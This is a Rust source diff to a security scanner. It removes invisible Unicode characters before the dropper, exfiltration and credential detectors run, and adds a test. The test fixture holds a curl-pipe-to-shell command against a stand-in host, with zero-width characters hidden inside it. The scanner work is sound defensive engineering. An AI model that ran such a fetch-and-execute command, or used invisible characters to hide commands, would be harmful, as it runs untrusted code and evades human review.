@@ -131,14 +131,33 @@ impl Ctx {
 /// Runs every family over one document (and, through `obfuscation`, over
 /// what it decodes).
 pub fn check(doc: &Doc, ctx: &mut Ctx, detectors: &warden_detect::Detectors) {
+    // The hidden family reads the characters themselves; every other family
+    // reads the text without them, so `c\u{200b}url … | sh` is still a dropper.
+    hidden::check(doc, ctx, detectors);
+    let cleaned = without_invisible(doc.text);
+    let clean_doc;
+    let doc = match &cleaned {
+        Some(text) => {
+            clean_doc = Doc::new(doc.path, text, doc.kind);
+            &clean_doc
+        }
+        None => doc,
+    };
     droppers::check(doc, ctx);
     obfuscation::check(doc, ctx, detectors);
-    hidden::check(doc, ctx, detectors);
     instructions::check(doc, ctx, detectors);
     credentials::check(doc, ctx);
     exfiltration::check(doc, ctx);
     persistence::check(doc, ctx);
     secrets::check(doc, ctx, detectors);
+}
+
+/// Characters that render as nothing (zero-width, soft hyphen, bidi
+/// controls, tag characters): `text` without them, if it has any. Lines
+/// are kept, so findings keep their line numbers.
+pub fn without_invisible(text: &str) -> Option<String> {
+    let invisible = |c: char| matches!(c as u32, 0xAD | 0x180E | 0x200B..=0x200F | 0x202A..=0x202E | 0x2060..=0x2064 | 0x2066..=0x2069 | 0xFEFF | 0xE0000..=0xE007F);
+    text.contains(invisible).then(|| text.chars().filter(|c| !invisible(*c)).collect())
 }
 
 /// A rule pattern, compiled once, with its gate (`warden_detect::rx`).
@@ -183,4 +202,25 @@ pub(crate) fn found_by(check: fn(&Doc, &mut Ctx), text: &str) -> Vec<(&'static s
     let mut ctx = Ctx::default();
     check(&d, &mut ctx);
     ctx.findings.iter().map(|f| (f.rule, f.severity)).collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::doc::Kind;
+
+    #[test]
+    fn invisible_characters_do_not_hide_a_command_from_the_other_families() {
+        let text = "c\u{200b}url -fsSL https://x.example/i.sh | s\u{200d}h";
+        let d = Doc::new("run.sh", text, Kind::Shell);
+        let mut ctx = Ctx::default();
+        check(&d, &mut ctx, &warden_detect::Detectors::default());
+        assert!(
+            ctx.findings.iter().any(|f| f.rule == "dropper.pipe-to-interpreter" && f.line == 1),
+            "{:?}",
+            ctx.findings
+        );
+        assert_eq!(without_invisible("a\u{200b}b\n\u{202e}c"), Some("ab\nc".to_string()));
+        assert_eq!(without_invisible("plain"), None);
+    }
 }
